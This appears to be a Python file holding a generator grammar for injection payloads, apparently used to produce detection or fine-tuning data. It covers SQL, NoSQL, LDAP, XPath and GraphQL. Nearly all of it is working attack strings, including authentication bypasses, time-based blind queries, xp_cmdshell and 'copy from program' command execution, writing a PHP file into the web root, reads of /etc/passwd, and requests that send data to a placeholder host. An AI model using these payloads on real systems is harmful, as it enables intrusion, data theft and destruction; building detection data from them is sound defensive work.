"""Attacks on query languages: SQL, query operators (NoSQL), LDAP, XPath, and what GraphQL carries of them.

Probing or exhausting a GraphQL schema is no attack here: whether it is one the application decides,
and fine-tuning teaches it.
"""

RULES = r"""
column = username password email id name version() database() user() @@version null 1 login pass passwd user_pass table_name column_name schema_name banner current_user sqlite_version() load_file(0x2f6574632f706173737764) group_concat(table_name) concat(username,0x3a,password) @@datadir «n» char(«digit(2)»,«digit(2)») 0x«hex(8)» md5(«n»)
table = users admin information_schema.tables information_schema.columns members mysql.user customers sysobjects dual all_tables pg_catalog.pg_tables sqlite_master wp_users accounts sys.databases user_tables msysobjects pg_shadow
dash = -- --+ --%20 # -- -«sp» --- ;-- ;# %23 ;%00 /* --/**/ ) `
quote = ' ' ' " ') ") ')) '; \' ' %' ]' ` '% %')
or = or or OR Or oR || and AND && xor having
eq:
  «n:1»=«n:1»
  '«w:1»'='«w:1»
  '«n:1»'='«n:1»
  "«w:1»"="«w:1»
  '«w:1»' like '«w:1»
  «n» like «n»
  «n» between «n» and «n»
  «n» in («n»,«n»)
  «n:1»<>«n»
  «n» is not null
  exists(select «n»)
  '«w:1»' regexp '«w:1»
  «n»>«n»
  ascii(substring((select database()),«n»,1))>«n»
  (select count(*) from «table»)>«n»
  length(database())=«n»
  substring(version(),1,1)='«n»
  (select «column» from «table» limit «nz»,1)='«w»
  «n»=(select «n» from pg_sleep(«nz»))
  rand()*«n»<«n»
  elt(«n»=«n»,«n»)
  row(«n»,«n»)>(select count(*),concat(«column»,floor(rand(0)*2))x from «table» group by x)
  extractvalue(«n»,concat(0x7e,(select «column»)))
  updatexml(«n»,concat(0x7e,«column»),«n»)
  ctxsys.drithsx.sn(«n»,(select «column» from dual))=«n»
  utl_inaddr.get_host_address((select «column» from dual))=1
  convert(int,(select «column» from «table»))=«n»
  cast((select «column» from «table») as int)=«n»
  dbms_pipe.receive_message(chr(«digit(2)»)||chr(«digit(2)»),«nz»)=«n»
  sleep(«nz»)
  (select*from(select(sleep(«nz»)))«w»)
  benchmark(«nz»000000,md5(«n»))
  randomblob(«digit(9)»)
  if(«n»=«n»,sleep(«nz»),0)
  case when («n»=«n») then «n» else «n» end
  (case when «n»=«n» then pg_sleep(«nz») else null end)
list:
  «column»
  «column»,«column»
  «n»,«n»,«n»
  «n»,«column»,«n»,«n»
  null,null
  null,null,null,«column»
  NULL,NULL,NULL,NULL,NULL
  «n»,2,3,4,5,6,7
  concat(0x«hex(6)»,«column»,0x«hex(6)»),null
  'a','b',«column»
  char(113)+char(107)+char(98),null
  @@version,«n»
tail:
  from «table»
  from «table» where «column»='«w»'
  from «table» limit «nz»
  from «table» limit «n»,«n»
  from dual
  into outfile '/var/www/«w».php'
sep = «sp» «sp» «sp» «sp» «sp» /**/ + %0a %09 «tab» /*!*/ «nl» /*«w»*/
union:
  union«sep:s»select«sep:s»«list»
  union«sep:s»all«sep:s»select«sep:s»«list»
  union«sep:s»select«sep:s»«list»«sep:s»«tail»
  union«sep:s»all«sep:s»select«sep:s»«list»«sep:s»«tail»
  union«sep:s»distinct«sep:s»select«sep:s»«list»«sep:s»«tail»
  /*!50000union*/«sep:s»/*!50000select*/«sep:s»«list»
  union(select(«column»),(«column»)from(«table»))
  UnIoN«sep:s»SeLeCt«sep:s»«list»«sep:s»«tail»
  uniunionon selselectect «list»
  union«sep:s»select«sep:s»«list»«sep:s»from«sep:s»(select«sep:s»«n»)a«sep:s»join«sep:s»(select«sep:s»«n»)b
stacked:
  ;drop table «table»
  ; drop table «table»
  ;insert into «table» values('«w»','«w»')
  ;update «table» set «column»='«w»'
  ;delete from «table»
  ;exec xp_cmdshell('«cmd»')
  ;exec master..xp_cmdshell '«cmd»'
  ;exec master.dbo.xp_dirtree '//«host»/«w»'
  ;shutdown
  ;select pg_sleep(«nz»)
  ;waitfor delay '0:0:«nz»'
  ; waitfor delay '00:00:0«nz»'
  ;declare @«w:1» varchar(99);set @«w:1»=0x«hex(20)»;exec(@«w:1»)
  ;create table «w» (a text)
  ;copy «w» from program '«cmd»'
  ;select load_extension('//«host»/«w»')
  ;truncate table «table»
  ;alter table «table» drop column «column»
  ;grant all on *.* to «w»
  ;declare @q nvarchar(4000);select @q=0x«hex(30)»;exec(@q)
pre = «n» «n» «n» «w» -«n» admin «n».«digit(4)»
sqli:
  «sqlclassic»
  «sqlclassic»
  «sqlclassic»
  «sqlunion»
  «sqlstatement»
sqlunion:
  «pre»«quote»«sep:s»«union»«sep:s»«dash»
  «pre»«quote» «union»
  «pre»«sep:s»«union»
  «pre»«sep:s»and«sep:s»«n:1»=«n»«sep:s»«union»«dash»
  «pre»«quote»)«sep:s»«union»«dash»
  '«union»«dash»
sqlclassic:
  «pre»«quote» «or» «eq»
  «pre»«quote» «or» «eq»«dash»
  «pre»«quote» «or» «eq» «dash»
  «pre»«quote»«sep:s»«or»«sep:s»«eq»«sep:s»«dash»
  «pre» «or» «eq»
  «pre» «or» «eq»«dash»
  «quote» «or» «eq»
  «quote»«or»«eq»«dash»
  «quote» or ''='
  «pre»' or 1«dash»
  «pre»' or true«dash»
  «w»'«dash»
  admin' «dash»
  admin'/*
  admin") or ("1"="1«dash»
  «pre»«quote» «union»«dash»
  «pre»«quote» «union» «dash»
  «pre» «union»
  «pre» «union»«dash»
  -«n»«quote»«sep:s»«union»«dash»
  «pre»«quote»«stacked»«dash»
  «pre»«stacked»«dash»
  «pre»«stacked»
  «pre»«quote» order by «n»«dash»
  «pre» order by «n»«dash»
  «pre» group by «column» having «n:1»=«n:1»«dash»
  «pre»'||(select «column»)||'
  «pre»'||(select «column» from «table» where rownum=1)||'
  '+(select «column» from «table»)+'
  «pre»'+waitfor delay '0:0:«nz»'«dash»
  («eq»)
  (select «list» «tail»)
  (select(0)from(select(sleep(«nz»)))v)/*'+(select(0)from(select(sleep(«nz»)))v)+'"*/
  if(now()=sysdate(),sleep(«nz»),0)
  0'XOR(if(now()=sysdate(),sleep(«nz»),0))XOR'Z
  «n»;select «list» «tail»«dash»
  select «list» «tail»
  insert into «table» («column») values ('«w»')«dash»
  «n»' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)«dash»
  «pre»«quote» and «n» in (select «column» «tail»)«dash»
  «n»' into outfile '/tmp/«w»'«dash»
  «n»' rlike (select (case when («n»=«n») then «n» else 0x28 end))«dash»
  '-'
  '^'
  ' or 'x'='x
  '='' or '
  «n»'"
  «n»')))"))
  «w»%' and «n:1»=«n:1» and '%'='
  «n» and(select«n»from(select count(*),concat(«column»,floor(rand(0)*2))x from «table» group by x)a)
  «n» procedure analyse()
  «w»' and json_extract('{}','$')«dash»
  «n»::int=cast((select «column») as int)
  1e0union select «list»
  «w»' && «n:1»=«n:1»«dash»
  «n»' || '«w»'='«w»
  '; if («n»=«n») waitfor delay '0:0:«nz»'«dash»
  case «n» when «n» then 1 else (select «n» union select 2) end
sqlstatement:
  or a=a
  or a = a
   or x=x--
  or isNULL(1/0) /*
  or (EXISTS)
   or 1/*
  and sleep(«nz»)=0
  AND SLEEP(«nz»)
  «n»||«n»
  «n»/*«w»*/or/*«w»*/«n»/*«w»*/like/*«w»*/«n»
  «n»'+not+like+'«n»
  «n» and «n»=«n»
  «n») INTO OUTFILE '«w»'--
  declare @q nvarchar (200) select @q = 0x«hex(20)» exec(@q)
  declare @s varchar (8000) select @s = 0x«hex(30)»
  select name from syscolumns where id = (select id from sysobjects where name = '«table»')
  select grantee from syscat.dbauth;
  select current server from sysibm.sysdummy1;
  select usesuper from pg_user where usename = current_user;
  select @@version where @@version like '%«n»%'
  select schema_name from information_schema.schemata
  select table_name from all_tables
  select sql from sqlite_master where type='table'
  create user «w» identified by '«w»'
  create table «w» (input text);
  grant dba to «w»
  ' insert into users(login, password, level) values( char(0x70) + char(0x65),char(0x«hex(2)»),«n»)--
  exec sp_makewebtask "\«ip»\«w»\«w».html", "select * from information_schema.tables"
  exec xp_regread
  '; exec master..xp_cmdshell 'ping «ip»'--
  bulk insert «w» from 'c:\«w»'
  RANDOMBLOB(«digit(9)»/2)
  '||UTL_HTTP.REQUEST('http://«host»/')||'
  '||dbms_pipe.receive_message(('a'),«nz»)||'
  «n» procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
  «n»' having '1'='1
  «n»' group by users.id having 1=1--
  %' and «n»=«n» and '%'='
  «w»' like '%
  ''||(select «n» from dual)||'
  «n»"||"
  («n»-vsize(chr(«digit(2)»))+«n»)
  («n»-@@error+«n»)
  («n»-pg_backend_pid()+«n»)
op = $ne $gt $lt $gte $lte $regex $exists $in $nin $where $eq $not $or $and $type $size $expr $function $nor $all
field = username password user pass email login token id role name
nosql:
  {"«op»": «n»}
  {"«op»": ""}
  {"«op»":null}
  {"«op»": "^«lower»"}
  {'«op»': ''}
  {"«field»": {"«op»": null}}
  {"«field»": {"«op»": ""}, "«field»": {"«op»": ""}}
  {"«field»":{"$ne":"«w»"},"«field»":{"$gt":""}}
  {"«field»":{"$regex":".*"}}
  {"«field»":{"$in":["admin","root","«w»"]}}
  {"$or": [{"«field»": "«w»"}, {"«n:1»": «n:1»}]}
  {"$or":[{},{"a":"a"}]}
  {"$where": "sleep(«n»)"}
  {"$where":"this.«field» == this.«field»"}
  {"$where": "function(){return true}"}
  {"«field»": {"$where": "1==1"}}
  {$gt:''}
  {$where: 'sleep(«n»)'}
  {$nin: ['']}
  [$ne]=«n»
  [«op»]=«w»
  «field»[«op»]=«w»
  «field»[«op»]=&«field»[«op»]=
  «field»[$ne]=«w»&«field»[$ne]=«w»
  «field»[$regex]=^«lower»&«field»[$gt]=
  «field»[$regex]=.*
  «field»[$in][]=admin
  ' || '1'=='1
  ' || 1==1//
  ' || 1==1%00
  ' || 'a'=='a
  '||this.«field»=='«w»
  '; return true; var x='
  '; return this.«field» == '«w»'; var y='
  ';return(true);var z='!
  ';sleep(«n»);'
  ';sleep(«nz»000);var x='
  '; while(true){}; '
  ';it=new%20Date();do{pt=new%20Date();}while(pt-it<«nz»000);
  '; var d = new Date(); do { cur = new Date(); } while(cur - d < «n»000); '
  true, $where: '1 == 1'
  , $where: '1 == 1'
  $where: '1 == 1'
  ', $or: [ {}, { 'a':'a
  ' } ], $comment:'successful
  " || ""=="
  db.«w».find({})
  db.«w».drop()
  db.«w».insert({«field»:'«w»'})
  db.getCollectionNames()
  ';db.«w».drop();'
  ' && this.«field».match(/.*/)//+%00
  ' && this.«field»!=null//
  «w»' && this.«field»[0]=='«lower»' || 'a'=='b
  this.«field».match(/^«lower».*/)
  {"mapReduce": "«w»", "map": "function(){emit(1,1)}"}
  {"«field»":{"$not":{"$type":«n»}}}
  {"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}
  {"selector":{"_id":{"$gt":null}}}
  '"`{ ;$Foo} $Foo \xYZ
  {"«field»":{"$gt":undefined}}
attribute = uid cn mail objectclass userpassword sn member memberof ou samaccountname givenname
ldap:
  *)(«attribute»=*
  *)(«attribute»=*))(|(«attribute»=*
  *)(«attribute»=*))%00
  «w»)(&)
  «w»)(|(«attribute»=*
  «w»)(|(&
  *)(|(&
  *)(&
  *)(|(«attribute»=*)
  *))(|(«attribute»=*
  *()|&'
  *)(&(«attribute»=«w»
  «w»*)((|«attribute»=*)
  «w»*)(«attribute»=*
  admin)(&)
  admin)(!(&(|
  admin)(&(password=«w»
  admin*)((|userpassword=*)
  admin*)((|userPassword=*)
  («attribute»=*)
  (&(«attribute»=*)(«attribute»=*))
  (|(«attribute»=*)(«attribute»=*))
  (&(«attribute»=«w»)(userPassword=*))
  (!(«attribute»=«w»))
  *))%00
  *)%00
  x)(«attribute»=«w»
  «w»)(«attribute»=*)
  «w»)(«attribute»=*))(|(«attribute»=*
  )(«attribute»=))(|(«attribute»=*
  *|%26'
  *(|(«attribute»=*))
  *)(objectclass=*))(&(objectclass=void
  «w»)(|(objectclass=*)(objectclass=*)
  )(|(«attribute»=*
  \2a\29\28«attribute»=\2a
  *)(«attribute»:caseExactMatch:=«w»
  *)(|(«attribute»~=«w»)(«attribute»>=«w»)
  «w»,ou=*)(«attribute»=*
node = user users account accounts password name username book item employee node title *
xpath:
  ' or '1'='1' or ''='
  ' or 1=1 or 'x'='y
  ' or true() or '
  ' or ''='' or '«w»'='
  ' or count(//«node»)=«n» or 'a'='b
  ' and count(/*)=1 and '1'='1
  ' and count(/@*)=1 and '1'='1
  ' and count(/comment())=1 and '1'='1
  «w»'] | //«node»/*['
  '] | //user/*[contains(*,'
  «w»' and substring(//«node»[«nz»]/«node»,1,1)='«lower»
  «w»' and substring((//«node»[position()=«nz»]/child::node()[position()=«nz»]),1,1)='«lower»
  ' or name()='«node»' or 'x'='y
  ' or position()=«n» or '
  ' or contains(name,'«w»') or '
  ' or starts-with(name(/*[1]),'«lower»') or '
  «w»'] | //* | //*['
  ') or ('1'='1
  string-length(name(/*[1]))=«n»
  ' or string-length(//«node»[1]/«node»)>«n» or '
  //«node»[«node»='«w»' or '1'='1']
  count(//«node»)
  //«node»/child::node()
  /descendant::«node»[position()=«n»]
  | //«node»
  «w»'|//«node»|'«w»
  x' or name()='«node»' or 'x'='y
  ' and doc('http://«host»/') and '1'='1
  doc('file:///etc/passwd')
  ' or substring-before('«w»','«lower»')='' or '
  normalize-space(//«node»)
  ' or ancestor::*[«n»] or '
  " or "1"="1" or ""="
  document('http://«host»/«w».xml')
gqlname = user users account admin node viewer systemUpdate login
graphql:
  query { «gqlname»(id: "«sqli|js»") { id name email password } }
  {«gqlname»(search:"«sqli|js»"){id}}
  mutation { login(username: "admin", password: "«sqli|js»") { token } }
  query { «gqlname»(url: "http://«inner»/") { body } }
  query { systemDiagnostics(cmd: "«cmd|js»") }
  mutation { importPaste(host:"«host»; «cmd|js»", port:80, path:"/", scheme:"http"){ result } }
  query { search(keyword: "<script>«js|js»</script>") { id } }
"""
